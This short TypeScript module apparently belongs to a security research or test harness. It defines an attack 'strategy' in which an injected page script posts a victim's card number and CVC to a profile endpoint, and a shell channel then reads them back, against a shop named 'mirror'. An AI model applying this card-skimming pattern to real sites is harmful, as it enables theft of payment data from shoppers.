import type { Strategy } from '#scripts/attack/strategy';

/** Read from a shell, after the answer. */
export const profileFromShell: Strategy = {
  name: 'profile, as JSON',
  channel: 'shell',
  shops: ['mirror'],
  async run({ page, shell }) {
    await page(
      "return said(await post('/account/profile', JSON.stringify({ cardNumber: number, cvc: code }), { 'content-type': 'application/json', ...json }))",
    );
    await shell('/account/profile', { accept: 'application/json' });
  },
};
